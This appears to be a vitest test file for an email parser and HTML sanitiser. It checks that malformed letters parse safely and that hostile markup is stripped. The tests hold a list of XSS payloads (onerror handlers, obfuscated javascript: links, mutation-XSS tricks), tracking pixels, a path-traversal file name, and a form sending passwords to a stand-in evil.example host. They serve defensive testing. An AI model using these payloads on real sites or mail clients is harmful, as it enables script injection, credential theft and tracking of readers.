/** Odd letters: all are readable, none fails, nothing in them runs or counts readers. */
import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html.ts';
import { parseMail } from './parse.ts';

const receivedAt = '2026-01-02T03:04:05.000Z';
const parse = (source: string | Buffer) =>
  parseMail(typeof source === 'string' ? Buffer.from(source.replace(/\r?\n/g, '\r\n')) : source, { receivedAt });
const HEAD = 'From: Ada <ada@one.example>\nTo: desk@tan.example\nSubject: Hello\nMessage-ID: <1@one.example>\n';
const part = (head: string, body: string) => `--b\n${head}\n\n${body}\n`;
const mixed = (...parts: string[]) => `${HEAD}Content-Type: multipart/mixed; boundary=b\n\n${parts.join('')}--b--`;

/** A winmail.dat with a text and a file. */
function winmail(): Buffer {
  const attribute = (level: number, id: number, data: Buffer) => {
    const head = Buffer.alloc(9);
    head.writeUInt8(level, 0);
    head.writeUInt32LE(id, 1);
    head.writeUInt32LE(data.length, 5);
    return Buffer.concat([head, data, Buffer.alloc(2)]);
  };
  const signature = Buffer.alloc(6);
  signature.writeUInt32LE(0x223e9f78, 0);
  return Buffer.concat([
    signature,
    attribute(1, 0x0002800c, Buffer.from('Text in Outlook\0')),
    attribute(2, 0x00069002, Buffer.alloc(14)),
    attribute(2, 0x00018010, Buffer.from('plan.txt\0')),
    attribute(2, 0x0006800f, Buffer.from('the plan')),
  ]);
}

const latin = (text: string) => Buffer.from(text.replaceAll('\n', '\r\n'), 'latin1');
const FIXTURES: Record<string, string | Buffer> = {
  'plain text': `${HEAD}\nplain words`,
  'nothing at all': '',
  'only a head': HEAD,
  'only a body': '\n\nwords',
  'no Message-ID': 'From: a@b.example\nSubject: x\n\nwords',
  'an empty Message-ID': 'Message-ID: <>\nSubject: x\n\nwords',
  'a Message-ID without brackets': 'Message-ID: bare@one.example\n\nwords',
  'bytes beyond ASCII in the head': latin('Subject: café\nFrom: "Jürgen" <j@one.example>\n\nHéllo'),
  'UTF-8 in the head': 'Subject: Grüße 你好\nFrom: Jürgen <j@one.example>\n\nwords',
  'an unknown character set': `${HEAD}Content-Type: text/plain; charset=foo-bar\n\nGrüße`,
  'a wrong character set': Buffer.concat([
    Buffer.from(`${HEAD}Content-Type: text/plain; charset=utf-8\n\n`),
    Buffer.from([0xff, 0xfe, 0xe9]),
  ]),
  Japanese: Buffer.concat([
    Buffer.from(`${HEAD}Content-Type: text/plain; charset=iso-2022-jp\n\n`),
    Buffer.from('1b2442254625391b2842', 'hex'),
  ]),
  'format=flowed': `${HEAD}Content-Type: text/plain; format=flowed\n\nOne long \nline.\n> quoted \n> too`,
  'quoted-printable that ends in the middle': `${HEAD}Content-Transfer-Encoding: quoted-printable\n\nHalf=C3`,
  'base64 with dirt': `${HEAD}Content-Transfer-Encoding: base64\n\nSGVs!!bG8=\n====`,
  'HTML alone': `${HEAD}Content-Type: text/html\n\n<p>First</p><p>Second &amp; last</p><style>p{color:red}</style>`,
  'both texts': `${HEAD}Content-Type: multipart/alternative; boundary=b\n\n${part('Content-Type: text/plain', 'plain')}${part('Content-Type: text/html', '<b>html</b>')}--b--`,
  'a boundary that never comes': `${HEAD}Content-Type: multipart/mixed; boundary=never\n\nwords`,
  'a boundary that is not named': `${HEAD}Content-Type: multipart/mixed\n\nwords`,
  'a letter in a letter': mixed(
    part('Content-Type: text/plain', 'outer'),
    part('Content-Type: message/rfc822', 'Subject: inner\n\ninner words'),
  ),
  'an invitation': mixed(part('Content-Type: text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\nEND:VCALENDAR')),
  'a file without a name': mixed(part('Content-Type: image/png\nContent-Disposition: attachment', 'x')),
  'a file name in RFC 2231': mixed(
    part("Content-Type: text/plain\nContent-Disposition: attachment; filename*=UTF-8''Gr%C3%BC%C3%9Fe.txt", 'x'),
  ),
  'a file name with a path': mixed(
    part('Content-Type: text/plain\nContent-Disposition: attachment; filename="../../etc/passwd"', 'x'),
  ),
  'a report of a failed delivery': `${HEAD}Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n${part('Content-Type: text/plain', 'It failed')}${part('Content-Type: message/delivery-status', 'Status: 5.1.1')}--b--`,
  'winmail.dat': mixed(
    part(
      'Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64',
      winmail().toString('base64'),
    ),
  ),
  'a broken winmail.dat': mixed(
    part(
      'Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64',
      winmail().subarray(0, 40).toString('base64'),
    ),
  ),
  'a date that cannot be': `${HEAD}Date: yesterday-ish\n\nwords`,
  'a date in the future': `${HEAD}Date: Fri, 1 Jan 2100 00:00:00 +0000\n\nwords`,
  'NUL characters': `${HEAD}\nwords\0 and\0 more`,
  'a head of thousands of lines': `${Array.from({ length: 3_000 }, (_, n) => `X-${n}: y`).join('\n')}\n${HEAD}\nwords`,
  'undisclosed recipients': 'From: a@b.example\nTo: undisclosed-recipients:;\nSubject: x\n\nwords',
  'many recipients': `From: a@b.example\nTo: ${Array.from({ length: 500 }, (_, n) => `p${n}@b.example`).join(', ')}\nSubject: x\n\nwords`,
  'references that loop': `Message-ID: <1@x>\nIn-Reply-To: <1@x>\nReferences: <1@x> <2@x> <1@x>\nSubject: x\n\nwords`,
  'thousands of references': `Message-ID: <1@x>\nReferences: ${Array.from({ length: 4_000 }, (_, n) => `<r${n}@x>`).join(' ')}\n\nwords`,
  'parts in parts in parts': `${HEAD}${Array.from({ length: 90 }, (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\n\n--b${n}\n`).join('')}\nwords`,
  'bytes at random': Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7_919) % 251)),
};

describe('odd letters', () => {
  it.each(Object.entries(FIXTURES))('%s can be read', async (_name, source) => {
    const mail = await parse(source);
    expect(mail.key).not.toBe('');
    expect(Number.isNaN(Date.parse(mail.at))).toBe(false);
    expect(JSON.stringify(mail.text + mail.subject)).not.toContain('\\u0000');
    expect(mail.references.length).toBeLessThanOrEqual(30);
    expect(mail.to.length).toBeLessThanOrEqual(200);
  });

  it('keeps what is in them', async () => {
    expect(await parse(FIXTURES['bytes beyond ASCII in the head']!)).toMatchObject({
      subject: 'café',
      from: { name: 'Jürgen' },
      text: 'Héllo',
    });
    expect((await parse(FIXTURES['an unknown character set']!)).text).toBe('Grüße');
    expect((await parse(FIXTURES.Japanese!)).text).toBe('テス');
    expect((await parse(FIXTURES['format=flowed']!)).text).toContain('One long line.');
    expect((await parse(FIXTURES['HTML alone']!)).text).toBe('First\nSecond & last');
    expect((await parse(FIXTURES['a letter in a letter']!)).text).toContain('inner words');
    const outlook = await parse(FIXTURES['winmail.dat']!);
    expect(outlook.text).toBe('Text in Outlook');
    expect(outlook.attachments.map(({ name, content }) => [name, Buffer.from(content).toString()])).toEqual([
      ['plan.txt', 'the plan'],
    ]);
    expect((await parse(FIXTURES['a file name in RFC 2231']!)).attachments[0]!.name).toBe('Grüße.txt');
    expect((await parse(FIXTURES['a date in the future']!)).at).toBe(receivedAt);
    expect((await parse(FIXTURES['an invitation']!)).attachments[0]).toMatchObject({
      type: 'text/calendar',
      name: 'invitation.ics',
    });
    expect((await parse(FIXTURES['parts in parts in parts']!)).remark).toBe('damaged');
  });

  it('gives one letter one key', async () => {
    const [one, other] = [await parse(FIXTURES['no Message-ID']!), await parse(FIXTURES['no Message-ID']!)];
    expect(one.key).toBe(other.key);
    expect((await parse('From: a@b.example\nSubject: y\n\nwords')).key).not.toBe(one.key);
  });

  it('finds the way out of a list', async () => {
    const list = (headers: string) => parse(`${headers}\nSubject: x\n\nwords`);
    expect(
      await list(
        'List-Unsubscribe: <mailto:off@x.example>, <https://x.example/off>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click',
      ),
    ).toMatchObject({ unsubscribe: 'https://x.example/off', unsubscribeOneClick: true });
    expect(await list('List-Unsubscribe: <mailto:off@x.example>')).toMatchObject({
      unsubscribe: 'mailto:off@x.example',
      unsubscribeOneClick: false,
    });
    expect(await list('List-Unsubscribe: <javascript:alert(1)>')).toMatchObject({ unsubscribe: '' });
  });
});

const clean = (html: string, showRemote = true) =>
  cleanHtml(html, { showRemote, pictureUrl: (id) => (id === 'logo@x' ? '/api/mail/attachments/1' : undefined) });

describe('hostile HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#x53;cript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<div style="background:url(https://track.example/x)">x</div>',
    '<div style="background:u\\72l(https://track.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<table background="https://track.example/x"><tr><td>x</td></tr></table>',
    '<video poster="https://track.example/x" src="https://track.example/y"></video>',
    '<img srcset="https://track.example/x 2x">',
    '<style>@import "https://track.example/x.css"; body{background:url(https://track.example/y)}</style>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><script>alert(1)</script></xmp>',
    '<template><script>alert(1)</script></template>',
    '<img src="https://track.example/o.gif" width="1" height="1">',
    '<img src="https://track.example/o.gif" style="display:none">',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  ])('%s neither runs nor calls', (html) => {
    const { html: out } = clean(html);
    expect(out).not.toMatch(
      /<script|<svg|<math|<form|<input|<base|<meta|<link|<iframe|<object|<embed|<style|<video|\son\w+=|javascript:|vbscript:|data:text|data:image\/svg|url\(|expression|behavior|position|track\.example|evil\.example/i,
    );
    // Cleaning once more changes nothing: a browser reads what was meant.
    expect(clean(out).html).toBe(out);
  });

  it('survives a thousand open tags and an endless style', () => {
    expect(() => clean('<div>'.repeat(5_000))).not.toThrow();
    expect(() => clean(`<p style="${'color:red;'.repeat(20_000)}">x</p>`)).not.toThrow();
  });

  it('leaves remote pictures out until asked, shows attached ones, and folds what is quoted', () => {
    const html =
      '<p style="color: #900">Hi</p><img src="http://shop.example/sale.png" alt="Sale"><img src="cid:logo@x"><div class="gmail_quote">Before</div>';
    const hidden = clean(html, false);
    expect(hidden).toMatchObject({ remotePictures: 1, trackers: 0 });
    expect(hidden.html).not.toContain('shop.example');
    expect(hidden.html).toContain('src="/api/mail/attachments/1"');
    expect(hidden.html).toContain('<summary>Quoted text</summary>Before</details>');
    expect(hidden.html).toContain('style="color: #900"');
    expect(clean(html).html).toContain('src="https://shop.example/sale.png"');
  });
});
